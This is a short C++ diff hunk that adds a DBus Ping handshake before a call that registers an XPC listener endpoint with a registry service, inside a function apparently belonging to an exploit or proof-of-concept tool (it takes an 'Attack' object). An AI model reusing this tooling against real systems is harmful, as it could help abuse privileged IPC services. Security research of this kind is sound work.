@@ -234,6 +234,11 @@ bool registers(const Attack& attack, int descriptor) {
   auto socket = connectToSocket(pathOfMachService(attack.root, kEndpointRegistryService), 5s);
   auto connection = socket ? openOverSocket(std::move(*socket)) : UniqueDBusConnection();
   if (!connection || !*connection) return false;
+  // No descriptor can be passed before the connection is admitted, as the answer shows.
+  const UniqueDBusMessage ping(
+      dbus_message_new_method_call(nullptr, "/", DBUS_INTERFACE_PEER, "Ping"));
+  const UniqueDBusMessage pong(
+      dbus_connection_send_with_reply_and_block(connection->get(), ping.get(), 10'000, nullptr));
   const UniqueDBusMessage message(dbus_message_new_method_call(
       nullptr, "/", kPeerInterface, "registerXPCListenerEndpoint_forPasskey_withName_withReply_"));
   DBusMessageIter arguments;
